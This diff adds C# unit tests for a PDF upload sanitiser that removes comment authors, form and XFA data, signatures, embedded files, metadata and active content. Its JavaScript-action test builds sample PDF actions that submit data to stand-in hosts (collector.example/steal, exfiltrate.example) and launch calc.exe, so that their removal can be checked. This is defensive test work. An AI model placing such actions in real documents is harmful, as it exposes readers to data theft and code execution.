@@ -247,6 +247,381 @@ public sealed class AttachmentTests
     }
 
     [Fact]
+    public void PdfComments_LoseTheirAuthorsDatesAndIds_KeepTheirText()
+    {
+        var original = TestPdf.Edited(doc =>
+        {
+            var note = Annotation(doc, "/Text");
+            note.Elements.SetString("/T", "Jane Author");
+            note.Elements.SetString("/Contents", "Call the shelter on Monday");
+            note.Elements.SetString("/RC", "<body><p>Call the shelter on Monday</p></body>");
+            note.Elements.SetString("/M", "D:20250303101010Z");
+            note.Elements.SetString("/CreationDate", "D:20250303090909Z");
+            note.Elements.SetString("/NM", "jane-laptop-0001");
+            var popup = Annotation(doc, "/Popup");
+            popup.Elements.SetString("/T", "Jane Author");
+            popup.Elements.SetString("/M", "D:20250303101010Z");
+            popup.Elements.SetReference("/Parent", note);
+            note.Elements.SetReference("/Popup", popup);
+            var reply = Annotation(doc, "/Text");
+            reply.Elements.SetString("/T", "Jane Author");
+            reply.Elements.SetString("/Contents", "Done, shelter called");
+            reply.Elements.SetReference("/IRT", note);
+            // Some writers leave a comment's pop-up out of the page's annotation list; it is reached through /Popup.
+            var unlisted = Annotation(doc, "/Popup");
+            unlisted.Elements.SetString("/T", "Jane Author");
+            unlisted.Elements.SetReference("/Parent", reply);
+            reply.Elements.SetReference("/Popup", unlisted);
+            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, note.ReferenceNotNull, popup.ReferenceNotNull, reply.ReferenceNotNull);
+        });
+
+        var cleaned = CleanPdf(original, gone: ["Jane Author", "D:20250303", "jane-laptop"]);
+
+        using var doc = OpenPdf(cleaned);
+        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
+        Assert.Equal(3, annots.Elements.Count);
+        var note = annots.Elements.GetDictionary(0)!;
+        Assert.Equal("/Text", note.Elements.GetName("/Subtype"));
+        Assert.Equal("Call the shelter on Monday", note.Elements.GetString("/Contents"));
+        Assert.Contains("Call the shelter on Monday", note.Elements.GetString("/RC"), StringComparison.Ordinal);
+        Assert.False(note.Elements.ContainsKey("/T"));
+        var popup = annots.Elements.GetDictionary(1)!;
+        Assert.Equal("/Popup", popup.Elements.GetName("/Subtype"));
+        Assert.Same(note, popup.Elements.GetDictionary("/Parent"));
+        var reply = annots.Elements.GetDictionary(2)!;
+        Assert.Equal("Done, shelter called", reply.Elements.GetString("/Contents"));
+        Assert.Same(note, reply.Elements.GetDictionary("/IRT"));
+        Assert.Same(reply, reply.Elements.GetDictionary("/Popup")!.Elements.GetDictionary("/Parent"));
+    }
+
+    [Fact]
+    public void PdfForms_KeepTheFilledInValues_LoseTheXfaCopy_DynamicXfaFormsAreRefused()
+    {
+        var original = TestPdf.Edited(doc =>
+        {
+            var field = Annotation(doc, "/Widget");
+            field.Elements.SetName("/FT", "/Tx");
+            field.Elements.SetString("/T", "interpreter_language");
+            field.Elements.SetString("/V", "Romanian");
+            field.Elements.SetString("/DV", "English");
+            field.Elements.SetString("/M", "D:20250303101010Z");
+            field.Elements.SetReference("/P", doc.Pages[0]);
+            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
+            var xfa = new PdfSharp.Pdf.PdfDictionary(doc);
+            xfa.CreateStream(Encoding.Latin1.GetBytes("<xdp:xdp><xfa:datasets><xfa:data><form><hidden_note>Jane Author, mother's maiden name Petrova</hidden_note></form></xfa:data></xfa:datasets></xdp:xdp>"));
+            doc.Internals.AddObject(xfa);
+            var form = new PdfSharp.Pdf.PdfDictionary(doc);
+            form.Elements["/Fields"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
+            form.Elements.SetBoolean("/NeedAppearances", true);
+            form.Elements.SetReference("/XFA", xfa);
+            doc.Internals.Catalog.Elements["/AcroForm"] = form;
+        });
+
+        var cleaned = CleanPdf(original, gone: ["Jane Author", "Petrova", "/XFA", "D:20250303"]);
+
+        using var doc = OpenPdf(cleaned);
+        var form = doc.Internals.Catalog.Elements.GetDictionary("/AcroForm")!;
+        Assert.True(form.Elements.GetBoolean("/NeedAppearances"));
+        var field = form.Elements.GetArray("/Fields")!.Elements.GetDictionary(0)!;
+        Assert.Equal("interpreter_language", field.Elements.GetString("/T")); // the field's name, not an author
+        Assert.Equal("Romanian", field.Elements.GetString("/V"));
+        Assert.Equal("English", field.Elements.GetString("/DV"));
+        Assert.Same(field, doc.Pages[0].Elements.GetArray("/Annots")!.Elements.GetDictionary(0));
+
+        // A dynamic XFA form's pages are a placeholder drawn over by the XFA at viewing time: refused, not emptied.
+        var dynamic = TestPdf.Edited(d => d.Internals.Catalog.Elements.SetBoolean("/NeedsRendering", true));
+        var ex = Assert.Throws<DomainException>(() => AttachmentContent.Accept("form.pdf", "application/pdf", dynamic));
+        Assert.Equal("file", ex.Field);
+        Assert.Contains("XFA", ex.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void PdfSignatureValues_AreRemoved_TheSignatureFieldStays()
+    {
+        var original = TestPdf.Edited(doc =>
+        {
+            var signature = new PdfSharp.Pdf.PdfDictionary(doc);
+            signature.Elements.SetName("/Type", "/Sig");
+            signature.Elements.SetName("/Filter", "/Adobe.PPKLite");
+            signature.Elements.SetName("/SubFilter", "/adbe.pkcs7.detached");
+            signature.Elements.SetString("/Name", "Jane Author");
+            signature.Elements.SetString("/M", "D:20250505101010Z");
+            signature.Elements.SetString("/Location", "Chisinau police station 3");
+            signature.Elements.SetString("/ContactInfo", "jane.author@example.org");
+            signature.Elements["/ByteRange"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfInteger(0), new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(20), new PdfSharp.Pdf.PdfInteger(30));
+            signature.Elements.SetString("/Contents", "0\x82 CN=Jane Author, O=Police");
+            doc.Internals.AddObject(signature);
+            var field = Annotation(doc, "/Widget");
+            field.Elements.SetName("/FT", "/Sig");
+            field.Elements.SetString("/T", "Signature1");
+            field.Elements.SetReference("/V", signature);
+            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
+            var form = new PdfSharp.Pdf.PdfDictionary(doc);
+            form.Elements["/Fields"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
+            form.Elements.SetInteger("/SigFlags", 3);
+            doc.Internals.Catalog.Elements["/AcroForm"] = form;
+            doc.Internals.Catalog.Elements["/Perms"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/DocMDP"] = signature.ReferenceNotNull } };
+        });
+
+        var cleaned = CleanPdf(original, gone: ["Jane Author", "Chisinau", "jane.author@", "D:20250505", "/ByteRange", "/Perms", "/SigFlags", "/Adobe.PPKLite"]);
+
+        using var doc = OpenPdf(cleaned);
+        var field = doc.Internals.Catalog.Elements.GetDictionary("/AcroForm")!.Elements.GetArray("/Fields")!.Elements.GetDictionary(0)!;
+        Assert.Equal("/Sig", field.Elements.GetName("/FT"));
+        Assert.Equal("Signature1", field.Elements.GetString("/T"));
+        Assert.False(field.Elements.ContainsKey("/V"));
+    }
+
+    [Fact]
+    public void PdfEmbeddedFilesAndFileAttachmentComments_AreRemoved_OtherCommentsStay()
+    {
+        var original = TestPdf.Edited(doc =>
+        {
+            var letter = EmbeddedFile(doc, "letter_from_Jane.txt", "Dear Jane, your passport is with the agency");
+            var names = new PdfSharp.Pdf.PdfDictionary(doc);
+            var tree = new PdfSharp.Pdf.PdfDictionary(doc);
+            tree.Elements["/Names"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfString("letter.txt"), letter.ReferenceNotNull);
+            names.Elements["/EmbeddedFiles"] = tree;
+            doc.Internals.Catalog.Elements["/Names"] = names;
+            doc.Internals.Catalog.Elements["/AF"] = new PdfSharp.Pdf.PdfArray(doc, EmbeddedFile(doc, "associated_Jane.xml", "<gps>45.4642 N</gps>").ReferenceNotNull);
+            var clip = Annotation(doc, "/FileAttachment");
+            clip.Elements.SetReference("/FS", EmbeddedFile(doc, "passport_scan_Jane.jpg", "JFIF GPSLatitude 45.4642"));
+            clip.Elements.SetString("/Contents", "Scan of the passport");
+            clip.Elements.SetString("/T", "Jane Author");
+            var clipPopup = Annotation(doc, "/Popup");
+            clipPopup.Elements.SetReference("/Parent", clip);
+            clip.Elements.SetReference("/Popup", clipPopup);
+            var note = Annotation(doc, "/Text");
+            note.Elements.SetString("/Contents", "Visible note on the statement");
+            note.Elements.SetReference("/IRT", clip); // a reply to the attachment keeps it reachable unless cut off
+            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, clip.ReferenceNotNull, clipPopup.ReferenceNotNull, note.ReferenceNotNull);
+            var objr = new PdfSharp.Pdf.PdfDictionary(doc);
+            objr.Elements.SetName("/Type", "/OBJR");
+            objr.Elements.SetReference("/Obj", clip);
+            var element = new PdfSharp.Pdf.PdfDictionary(doc);
+            element.Elements.SetName("/S", "/Annot");
+            element.Elements["/K"] = new PdfSharp.Pdf.PdfArray(doc, objr);
+            doc.Internals.AddObject(element);
+            var structure = new PdfSharp.Pdf.PdfDictionary(doc);
+            structure.Elements.SetName("/Type", "/StructTreeRoot");
+            structure.Elements.SetReference("/K", element);
+            doc.Internals.Catalog.Elements["/StructTreeRoot"] = structure;
+        });
+
+        var cleaned = CleanPdf(original, gone: ["letter_from_Jane", "Dear Jane", "associated_Jane", "passport_scan_Jane", "45.4642", "Scan of the passport", "Jane Author", "/FileAttachment", "/EmbeddedFile"]);
+
+        using var doc = OpenPdf(cleaned);
+        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
+        var note = Assert.Single(annots.Elements.Select((_, i) => annots.Elements.GetDictionary(i)!));
+        Assert.Equal("Visible note on the statement", note.Elements.GetString("/Contents"));
+        Assert.False(note.Elements.ContainsKey("/IRT"));
+        Assert.NotNull(doc.Internals.Catalog.Elements.GetDictionary("/StructTreeRoot"));
+        Assert.False(doc.Internals.Catalog.Elements.GetDictionary("/Names")?.Elements.ContainsKey("/EmbeddedFiles") ?? false);
+    }
+
+    [Fact]
+    public void PdfJavaScriptAndLaunchActions_AreRemoved_LinksStay()
+    {
+        var original = TestPdf.Edited(doc =>
+        {
+            var catalog = doc.Internals.Catalog;
+            catalog.Elements["/OpenAction"] = Action(doc, "/JavaScript", "/JS", "app.alert('opened')");
+            var script = new PdfSharp.Pdf.PdfDictionary(doc);
+            script.CreateStream(Encoding.Latin1.GetBytes("this.submitForm('https://collector.example/steal');"));
+            doc.Internals.AddObject(script);
+            var init = Action(doc, "/JavaScript", "/JS", "");
+            init.Elements.SetReference("/JS", script);
+            var names = new PdfSharp.Pdf.PdfDictionary(doc);
+            var tree = new PdfSharp.Pdf.PdfDictionary(doc);
+            tree.Elements["/Names"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfString("init"), init);
+            names.Elements["/JavaScript"] = tree;
+            catalog.Elements["/Names"] = names;
+            var pageActions = new PdfSharp.Pdf.PdfDictionary(doc);
+            pageActions.Elements["/O"] = Action(doc, "/Launch", "/F", "calc.exe");
+            doc.Pages[0].Elements["/AA"] = pageActions;
+            var help = Annotation(doc, "/Link");
+            var uri = Action(doc, "/URI", "/URI", "https://example.org/help");
+            uri.Elements["/Next"] = new PdfSharp.Pdf.PdfArray(doc, Action(doc, "/JavaScript", "/JS", "app.launchURL('https://collector.example')"));
+            help.Elements["/A"] = uri;
+            var print = Annotation(doc, "/Link");
+            var submit = Action(doc, "/SubmitForm", "/F", "https://exfiltrate.example/post");
+            pageActions.Elements["/C"] = submit;
+            var rendition = Action(doc, "/Rendition", "/JS", "renditionScript()");
+            pageActions.Elements["/PO"] = rendition;
+            var import = Action(doc, "/ImportData", "/F", "harvest.fdf");
+            print.Elements["/A"] = Action(doc, "/JavaScript", "/JS", "print_silently()");
+            help.Elements["/AA"] = new PdfSharp.Pdf.PdfDictionary(doc);
+            ((PdfSharp.Pdf.PdfDictionary)help.Elements["/AA"]!).Elements["/U"] = import;
+            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, help.ReferenceNotNull, print.ReferenceNotNull);
+        });
+
+        var cleaned = CleanPdf(original, gone: ["/JavaScript", "app.alert", "submitForm", "collector.example", "/Launch", "calc.exe", "print_silently",
+            "/SubmitForm", "exfiltrate.example", "renditionScript", "/ImportData", "harvest.fdf"]);
+
+        using var doc = OpenPdf(cleaned);
+        Assert.False(doc.Internals.Catalog.Elements.ContainsKey("/OpenAction"));
+        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
+        Assert.Equal(2, annots.Elements.Count);
+        var link = annots.Elements.GetDictionary(0)!.Elements.GetDictionary("/A")!;
+        Assert.Equal("https://example.org/help", link.Elements.GetString("/URI"));
+        Assert.Empty(link.Elements.GetArray("/Next")!.Elements);
+        Assert.Equal("/Link", annots.Elements.GetDictionary(1)!.Elements.GetName("/Subtype"));
+    }
+
+    [Fact]
+    public void PdfPageImageAndFormLevelMetadataAndPrivateData_AreRemoved_TheImageStays()
+    {
+        byte[] pixels = [0x12, 0x34, 0x56, 0x78];
+        var original = TestPdf.Edited(doc =>
+        {
+            var page = doc.Pages[0];
+            var xmp = new PdfSharp.Pdf.PdfDictionary(doc);
+            xmp.Elements.SetName("/Type", "/Metadata");
+            xmp.Elements.SetName("/Subtype", "/XML");
+            xmp.CreateStream(Encoding.Latin1.GetBytes("<x:xmpmeta><dc:creator>Jane Author</dc:creator><exif:GPSLatitude>45.4642</exif:GPSLatitude></x:xmpmeta>"));
+            doc.Internals.AddObject(xmp);
+            PdfSharp.Pdf.PdfDictionary Private() => new(doc) { Elements = { ["/Word"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/Private"] = new PdfSharp.Pdf.PdfString("Jane Author draft 3"), ["/LastModified"] = new PdfSharp.Pdf.PdfString("D:20250404101010Z") } } } };
+            page.Elements["/PieceInfo"] = Private();
+            page.Elements.SetString("/LastModified", "D:20250404101010Z");
+            page.Elements.SetReference("/Metadata", xmp);
+            var image = new PdfSharp.Pdf.PdfDictionary(doc);
+            image.Elements.SetName("/Type", "/XObject");
+            image.Elements.SetName("/Subtype", "/Image");
+            image.Elements.SetInteger("/Width", 2);
+            image.Elements.SetInteger("/Height", 2);
+            image.Elements.SetName("/ColorSpace", "/DeviceGray");
+            image.Elements.SetInteger("/BitsPerComponent", 8);
+            image.Elements.SetReference("/Metadata", xmp);
+            image.Elements["/PieceInfo"] = Private();
+            image.CreateStream(pixels);
+            doc.Internals.AddObject(image);
+            var stamp = new PdfSharp.Pdf.PdfDictionary(doc);
+            stamp.Elements.SetName("/Type", "/XObject");
+            stamp.Elements.SetName("/Subtype", "/Form");
+            stamp.Elements["/BBox"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfInteger(0), new PdfSharp.Pdf.PdfInteger(0), new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(10));
+            stamp.Elements.SetReference("/Metadata", xmp);
+            stamp.Elements["/PieceInfo"] = Private();
+            stamp.Elements.SetString("/LastModified", "D:20250404101010Z");
+            stamp.CreateStream(Encoding.Latin1.GetBytes("0 0 m 10 10 l S"));
+            doc.Internals.AddObject(stamp);
+            var xobjects = new PdfSharp.Pdf.PdfDictionary(doc);
+            xobjects.Elements.SetReference("/Im9", image);
+            xobjects.Elements.SetReference("/Fm9", stamp);
+            page.Elements.GetDictionary("/Resources")!.Elements["/XObject"] = xobjects;
+        });
+
+        var cleaned = CleanPdf(original, gone: ["Jane Author", "45.4642", "D:20250404", "/PieceInfo", "/LastModified"]);
+
+        using var doc = OpenPdf(cleaned);
+        var page = doc.Pages[0];
+        Assert.False(page.Elements.ContainsKey("/Metadata"));
+        var xobjects = page.Elements.GetDictionary("/Resources")!.Elements.GetDictionary("/XObject")!;
+        var image = xobjects.Elements.GetDictionary("/Im9")!;
+        Assert.Equal(pixels, image.Stream.Value);
+        Assert.False(image.Elements.ContainsKey("/Metadata"));
+        var stamp = xobjects.Elements.GetDictionary("/Fm9")!;
+        Assert.Equal("0 0 m 10 10 l S", Encoding.Latin1.GetString(stamp.Stream.UnfilteredValue));
+        Assert.False(stamp.Elements.ContainsKey("/Metadata"));
+    }
+
+    // Cleans an uploaded PDF through the upload path and checks each identifying string is in the original file's
+    // bytes (so the check can fail) and in neither the cleaned bytes nor any string, name or decoded stream PDFsharp
+    // reads from the cleaned file; the page's text and page count survive.
+    private static byte[] CleanPdf(byte[] original, string[] gone)
+    {
+        var before = Encoding.Latin1.GetString(original);
+        var (type, cleaned, _) = AttachmentContent.Accept("statement.pdf", "application/pdf", original);
+        Assert.Equal(AttachmentType.Pdf, type);
+        var raw = Encoding.Latin1.GetString(cleaned);
+        var parsed = ParsedText(cleaned);
+        foreach (var g in gone)
+        {
+            Assert.Contains(g, before, StringComparison.Ordinal);
+            Assert.DoesNotContain(g, raw, StringComparison.Ordinal);
+            Assert.DoesNotContain(g, parsed, StringComparison.Ordinal);
+        }
+
+        Assert.Contains(TestPdf.PageText, raw, StringComparison.Ordinal);
+        using var doc = OpenPdf(cleaned);
+        Assert.Equal(1, doc.PageCount);
+        return cleaned;
+    }
+
+    private static PdfSharp.Pdf.PdfDocument OpenPdf(byte[] pdf) =>
+        PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(pdf), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Modify);
+
+    // Every key, name and string of every object PDFsharp reads from the file, and every stream decoded.
+    private static string ParsedText(byte[] pdf)
+    {
+        using var doc = OpenPdf(pdf);
+        var text = new StringBuilder();
+        var seen = new HashSet<PdfSharp.Pdf.PdfItem>(ReferenceEqualityComparer.Instance);
+        void Walk(PdfSharp.Pdf.PdfItem? item)
+        {
+            switch (item)
+            {
+                case PdfSharp.Pdf.PdfString s:
+                    text.AppendLine(s.Value);
+                    break;
+                case PdfSharp.Pdf.PdfName n:
+                    text.AppendLine(n.Value);
+                    break;
+                case PdfSharp.Pdf.PdfDictionary d when seen.Add(d):
+                    foreach (var (key, value) in d.Elements)
+                    {
+                        text.AppendLine(key);
+                        Walk(value);
+                    }
+
+                    if (d.Stream is { } stream) text.AppendLine(Encoding.Latin1.GetString(stream.UnfilteredValue));
+                    break;
+                case PdfSharp.Pdf.PdfArray a when seen.Add(a):
+                    foreach (var x in a.Elements) Walk(x);
+                    break;
+            }
+        }
+
+        foreach (var o in doc.Internals.GetAllObjects()) Walk(o);
+        return text.ToString();
+    }
+
+    private static PdfSharp.Pdf.PdfDictionary Annotation(PdfSharp.Pdf.PdfDocument doc, string subtype)
+    {
+        var a = new PdfSharp.Pdf.PdfDictionary(doc);
+        a.Elements.SetName("/Type", "/Annot");
+        a.Elements.SetName("/Subtype", subtype);
+        a.Elements["/Rect"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfInteger(72), new PdfSharp.Pdf.PdfInteger(600), new PdfSharp.Pdf.PdfInteger(92), new PdfSharp.Pdf.PdfInteger(620));
+        doc.Internals.AddObject(a);
+        return a;
+    }
+
+    // A file specification with the file embedded, as an indirect object.
+    private static PdfSharp.Pdf.PdfDictionary EmbeddedFile(PdfSharp.Pdf.PdfDocument doc, string name, string content)
+    {
+        var file = new PdfSharp.Pdf.PdfDictionary(doc);
+        file.Elements.SetName("/Type", "/EmbeddedFile");
+        file.CreateStream(Encoding.Latin1.GetBytes(content));
+        doc.Internals.AddObject(file);
+        var spec = new PdfSharp.Pdf.PdfDictionary(doc);
+        spec.Elements.SetName("/Type", "/Filespec");
+        spec.Elements.SetString("/F", name);
+        spec.Elements.SetString("/UF", name);
+        spec.Elements["/EF"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/F"] = file.ReferenceNotNull } };
+        doc.Internals.AddObject(spec);
+        return spec;
+    }
+
+    // A direct action dictionary of the given type with one string entry.
+    private static PdfSharp.Pdf.PdfDictionary Action(PdfSharp.Pdf.PdfDocument doc, string type, string key, string value)
+    {
+        var a = new PdfSharp.Pdf.PdfDictionary(doc);
+        a.Elements.SetName("/Type", "/Action");
+        a.Elements.SetName("/S", type);
+        a.Elements.SetString(key, value);
+        return a;
+    }
+
+    [Fact]
     public void DamagedImages_AreRefused()
     {
         var jpeg = Jpeg(out _);
